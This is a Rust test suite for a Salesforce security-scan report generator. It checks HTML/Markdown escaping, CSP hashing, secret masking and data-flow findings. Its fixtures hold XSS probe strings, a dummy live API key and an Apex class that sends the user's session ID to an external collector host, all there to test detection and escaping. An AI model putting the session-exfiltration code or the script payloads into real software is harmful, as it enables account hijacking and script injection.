use super::*;
use crate::diagnostics::finding::LineIndex;
use crate::engine::{ScanRequest, scan};
use crate::testing::TempProject;
use crate::workspace::config::Config;
use sha2::Digest;

/// 2026-11-24.
const NOW: i64 = 1_795_478_400;
const KEY: &str = "sk_live_51HqLyjWDarjtT1zdp7dcQ9";

fn review_of(files: &[(&str, String)]) -> Review {
    review_with(files, Config::default())
}

fn review_with(files: &[(&str, String)], config: Config) -> Review {
    let dir = TempProject::new(files).expect("project");
    review_in(&dir, config, None, Attestation::default())
}

fn review_in(dir: &TempProject, config: Config, file: Option<(String, String)>, attestation: Attestation) -> Review {
    let result = scan(&ScanRequest {
        paths: vec![dir.path().to_path_buf()],
        cwd: dir.path().to_path_buf(),
        config: config.clone(),
        now: NOW,
    })
    .expect("scan");
    let enabled: Vec<&'static str> = crate::diagnostics::rules::all().iter().map(|d| d.id).collect();
    build(
        &result,
        Input {
            enabled: &enabled,
            scanned: vec![".".into()],
            now: NOW,
            options: &config.options,
            config: file,
            attestation,
            included: Vec::new(),
            notes: Vec::new(),
        },
    )
}

fn fixture() -> Vec<(&'static str, String)> {
    let class = format!(
        "public with sharing class Billing {{\n    // </pre><script>alert('x')</script>\n    private static final String KEY = '{KEY}';\n}}\n"
    );
    let app = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>
<ConnectedApp xmlns=\"http://soap.sforce.com/2006/04/metadata\">
    <contactEmail>a@example.com</contactEmail>
    <label>Billing</label>
    <oauthConfig>
        <callbackUrl>https://billing.example.com/cb</callbackUrl>
        <isAdminApproved>true</isAdminApproved>
        <isPkceRequired>true</isPkceRequired>
        <scopes>Api</scopes>
    </oauthConfig>
    <!-- sfsec-ignore oauth-ip-relaxation: partner VPN egress only, reviewed 2026-10 -->
    <oauthPolicy>
        <ipRelaxation>BYPASS</ipRelaxation>
    </oauthPolicy>
</ConnectedApp>
";
    vec![
        ("force-app/main/default/classes/Billing.cls", class),
        (
            "force-app/main/default/connectedApps/Billing.connectedApp-meta.xml",
            app.to_string(),
        ),
    ]
}

#[test]
fn both_variants_have_every_section_in_order() {
    let r = review_of(&fixture());
    let html = html::render(&r);
    let md = markdown::render(&r);
    let mut at = (0, 0);
    for (id, title) in SECTIONS {
        let h = html[at.0..]
            .find(&format!("<section id=\"{id}\">\n<h2>{title}</h2>"))
            .unwrap_or_else(|| panic!("html: section {id} missing or out of order"));
        at.0 += h;
        let m = md[at.1..]
            .find(&format!("\n## {title}\n"))
            .unwrap_or_else(|| panic!("markdown: section {title} missing or out of order"));
        at.1 += m;
    }
}

#[test]
fn the_report_says_what_was_found_suppressed_stored_and_scanned() {
    let r = review_of(&fixture());
    assert_eq!(
        r.groups.len(),
        1,
        "{:?}",
        r.groups.iter().map(|g| g.doc.id).collect::<Vec<_>>()
    );
    assert_eq!(r.groups[0].doc.id, "hardcoded-secret");
    assert_eq!(r.groups[0].entries[0].line, 3);

    let [fp] = r.false_positives.as_slice() else {
        panic!("one false positive expected")
    };
    assert_eq!(
        (fp.rule, fp.reason.as_str(), fp.by_line, fp.line),
        (
            "oauth-ip-relaxation",
            "partner VPN egress only, reviewed 2026-10",
            11,
            13
        )
    );
    let oauth = r.families.iter().find(|f| f.family == "oauth").expect("oauth row");
    assert_eq!((oauth.active(), oauth.suppressed), (0, 1));
    assert!(
        r.rules
            .iter()
            .any(|row| row.doc.id == "oauth-device-flow" && row.active == 0)
    );

    let [app] = r.inventory.apps.as_slice() else {
        panic!("one app expected")
    };
    assert_eq!(app.ip_policy, "relaxed (`BYPASS`)");
    assert_eq!(app.refresh_token_policy, "issues no refresh tokens");
    assert_eq!(r.inventory.committed_secrets.len(), 1);

    let kinds: Vec<(&str, usize)> = r.coverage.iter().map(|c| (c.kind.as_str(), c.files)).collect();
    assert!(kinds.contains(&("Apex", 1)), "{kinds:?}");
    assert!(kinds.contains(&("Metadata: ConnectedApp", 1)), "{kinds:?}");
    assert!(r.failures.is_empty());

    let md = markdown::render(&r);
    assert!(md.contains(
        "| `oauth-ip-relaxation` | `force-app/main/default/connectedApps/Billing.connectedApp-meta.xml:13` |"
    ));
    assert!(md.contains("| Namespace | none (not a managed package) |"));
}

#[test]
fn html_is_self_contained_escaped_and_its_script_allowed_by_hash() {
    let html = html::render(&review_of(&fixture()));
    // The project's `<script>` is text; the only script is the report's own.
    assert_eq!(html.matches("<script").count(), 1);
    assert!(html.contains("&lt;/pre&gt;&lt;script&gt;alert(&apos;x&apos;)&lt;/script&gt;"));
    for external in ["src=", "<link", "url(", "@import", "<iframe", "<object"] {
        assert!(!html.contains(external), "{external}");
    }
    let script = html
        .split("<script>")
        .nth(1)
        .and_then(|s| s.split("</script>").next())
        .expect("script");
    let hash = data_encoding::BASE64.encode(&sha2::Sha256::digest(script.as_bytes()));
    assert!(
        html.contains(&format!("script-src 'sha256-{hash}'")),
        "the CSP must allow exactly the inline script"
    );
    assert!(html.contains("default-src 'none'"));
    // Secrets are masked in excerpts, messages and the inventory alike.
    assert!(!html.contains(KEY));
    assert!(!markdown::render(&review_of(&fixture())).contains(KEY));
}

#[test]
fn the_chart_has_a_bar_per_family_and_severity_with_findings() {
    let r = review_of(&fixture());
    let html = html::render(&r);
    let chart = html
        .split("<svg id=\"chart\"")
        .nth(1)
        .and_then(|s| s.split("</svg>").next())
        .expect("chart");
    assert!(chart.contains("data-family=\"secrets\" data-severity=\"error\""));
    assert!(chart.contains("data-family=\"oauth\" data-severity=\"suppressed\""));
    assert_eq!(chart.matches("class=\"bar\"").count(), 2);
}

#[test]
fn excerpts_show_context_and_mark_the_span_on_each_line() {
    let text = "a\nb\nc = 'one\ntwo';\nd\ne\nf\n";
    let start = text.find("'one").expect("start");
    let end = text.find(';').expect("end");
    let x = excerpt(text, &LineIndex::new(text), start..end).expect("excerpt");
    let shown: Vec<(usize, &str, Option<&str>, bool)> = x
        .lines
        .iter()
        .map(|l| (l.number, l.text.as_str(), l.mark.clone().map(|m| &l.text[m]), l.hit))
        .collect();
    assert_eq!(
        shown,
        [
            (1, "a", None, false),
            (2, "b", None, false),
            (3, "c = 'one", Some("'one"), true),
            (4, "two';", Some("two'"), true),
            (5, "d", None, false),
            (6, "e", None, false),
        ]
    );
    // A long line is cut at a character boundary, its mark clamped.
    let long = format!("x = '{}';", "é".repeat(200));
    let x = excerpt(&long, &LineIndex::new(&long), 4..long.len() - 1).expect("excerpt");
    let l = &x.lines[0];
    assert!(l.cut && l.text.len() <= MAX_LINE_BYTES && l.text.is_char_boundary(l.text.len()));
    assert_eq!(l.mark, Some(4..l.text.len()));
    // A whole-file finding has nothing to show.
    assert!(excerpt("", &LineIndex::new(""), 0..0).is_none());
}

#[test]
fn messages_show_code_spans_as_code() {
    assert_eq!(
        html::inline("app `<A>` sets `x` & `y"),
        "app <code>&lt;A&gt;</code> sets <code>x</code> &amp; `y"
    );
}

#[test]
fn coverage_lists_files_that_could_not_be_parsed() {
    let mut files = fixture();
    files.push((
        "force-app/main/default/classes/Broken.cls",
        "public class Broken { void x( { }".to_string(),
    ));
    files.push((
        "force-app/main/default/connectedApps/Bad.connectedApp-meta.xml",
        "<ConnectedApp><label>x</ConnectedApp>".to_string(),
    ));
    let r = review_of(&files);
    let failed: Vec<(&str, &str)> = r.failures.iter().map(|f| (f.path.as_str(), f.rule)).collect();
    assert_eq!(
        failed,
        [
            ("force-app/main/default/classes/Broken.cls", "apex-parse-error"),
            (
                "force-app/main/default/connectedApps/Bad.connectedApp-meta.xml",
                "invalid-metadata"
            ),
        ]
    );
    // Still counted as scanned: they were read, and the report says what became of them.
    assert!(r.coverage.iter().any(|c| c.kind == "Apex" && c.files == 2));
    let md = markdown::render(&r);
    assert!(
        md.contains("| `force-app/main/default/classes/Broken.cls` | `apex-parse-error` |"),
        "{md}"
    );
    assert!(!md.contains("Every file was read and parsed."));
}

#[test]
fn apps_the_configuration_calls_native_say_so() {
    let mut config = Config::default();
    config.options.native_apps = vec!["Billing".into()];
    let r = review_with(&fixture(), config);
    assert_eq!(
        r.inventory.apps[0].ip_policy,
        "relaxed (`BYPASS`); native app (sfsec.toml lists it in `oauth.native-apps`)"
    );
}

#[test]
fn a_data_flow_step_is_listed_once() {
    let class = "public with sharing class Beacon {\n    public static void send() {\n        String sid = UserInfo.getSessionId();\n        HttpRequest req = new HttpRequest();\n        req.setEndpoint('https://collector.example.net/b?sid=' + sid);\n        new Http().send(req);\n    }\n}\n";
    let r = review_of(&[("force-app/main/default/classes/Beacon.cls", class.to_string())]);
    let group = r
        .groups
        .iter()
        .find(|g| g.doc.id == "session-id-to-external")
        .expect("a flow finding");
    let steps = &group.entries[0].steps;
    assert!(steps.len() >= 2, "{}", steps.len());
    for (i, a) in steps.iter().enumerate() {
        let twice = steps[i + 1..]
            .iter()
            .any(|b| (&b.path, b.line, &b.message) == (&a.path, a.line, &a.message));
        assert!(!twice, "listed twice: {}:{}: {}", a.path, a.line, a.message);
    }
}

fn git(dir: &std::path::Path, args: &[&str]) {
    let ok = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .output()
        .expect("git")
        .status
        .success();
    assert!(ok, "git {args:?}");
}

/// What ties the document to an uploaded package version: the package and its version, the
/// commit and whether the project differs from it, the time in UTC, the configuration's and the
/// content's digests, and the attestation.
#[test]
fn the_report_says_which_package_commit_content_and_configuration_it_describes() {
    let mut files = fixture();
    let sfdx = r#"{"packageDirectories":[{"path":"force-app","default":true,"package":"Acme Billing","versionNumber":"1.4.0.NEXT","versionName":"Spring"}],"namespace":"acmebill"}"#;
    files.push(("sfdx-project.json", sfdx.to_string()));
    let dir = TempProject::new(&files).expect("project");
    let plain = review_in(&dir, Config::default(), None, Attestation::default());
    assert_eq!(plain.meta.project, "Acme Billing 1.4.0.NEXT");
    assert_eq!(plain.meta.timestamp, "2026-11-24T00:00:00Z");
    assert_eq!(plain.meta.git, None, "not a git work tree");
    assert_eq!(plain.meta.content_digest.len(), 64);
    let md = markdown::render(&plain);
    assert!(
        md.starts_with("# Security review report: Acme Billing 1.4.0.NEXT\n"),
        "{md}"
    );
    assert!(
        md.contains("| Packages | `Acme Billing` `1.4.0.NEXT` (Spring) in `force-app` |"),
        "{md}"
    );
    assert!(md.contains("| Source | no commit (not a git work tree, or git is not installed) |"));
    assert!(md.contains("| Configuration | none: every rule at its default |"));
    assert!(md.contains("| Prepared by |  |\n"), "blank for the partner");

    git(dir.path(), &["init", "-q"]);
    git(dir.path(), &["add", "-A"]);
    git(dir.path(), &["commit", "-q", "-m", "v1"]);
    let attestation = Attestation {
        prepared_by: Some("Jane Roe <jane@acme.example>".into()),
        submission: Some("AppExchange review 0042, version 1.4.0".into()),
    };
    let digest = "ab".repeat(32);
    let signed = review_in(
        &dir,
        Config::default(),
        Some(("sfsec.toml".into(), digest.clone())),
        attestation,
    );
    let (commit, dirty) = signed.meta.git.clone().expect("a git work tree");
    assert_eq!((commit.len(), dirty), (40, false));
    assert_eq!(signed.meta.content_digest, plain.meta.content_digest, "the same files");
    let md = markdown::render(&signed);
    assert!(md.contains(&format!("| Source | commit {commit} (clean) |")), "{md}");
    assert!(md.contains(&format!("| Configuration | `sfsec.toml`, SHA-256 `{digest}` |")));
    // Markup in a cell is shown as code, never interpreted.
    assert!(md.contains("| Prepared by | Jane Roe `<jane@acme.example>` |"), "{md}");
    assert!(md.contains("| Submission | AppExchange review 0042, version 1.4.0 |"));
    let html = html::render(&signed);
    assert!(
        html.contains("&lt;jane@acme.example&gt;") && !html.contains("<jane@"),
        "escaped"
    );

    // One byte changed in a scanned file: another content digest, and the project is dirty.
    dir.write(
        "force-app/main/default/classes/Billing.cls",
        b"public with sharing class Billing {}\n",
    )
    .expect("write");
    let edited = review_in(&dir, Config::default(), None, Attestation::default());
    assert_ne!(edited.meta.content_digest, plain.meta.content_digest);
    assert_eq!(edited.meta.git, Some((commit, true)));
    assert!(markdown::render(&edited).contains("(with uncommitted changes in the project)"));
}

#[test]
fn a_package_name_with_markup_is_text_in_the_title() {
    let mut files = fixture();
    let sfdx = r#"{"packageDirectories":[{"path":"force-app","package":"<img src=x onerror=alert(1)> *Pkg*","versionNumber":"1.0.0.NEXT"}]}"#;
    files.push(("sfdx-project.json", sfdx.to_string()));
    let md = markdown::render(&review_of(&files));
    let title = md.lines().next().unwrap_or("");
    // Escaped: read as text, never as an element or emphasis.
    assert!(title.contains("\\<img") && title.contains("\\*Pkg\\*"), "{title}");
    assert!(!html::render(&review_of(&files)).contains("<img"));
}
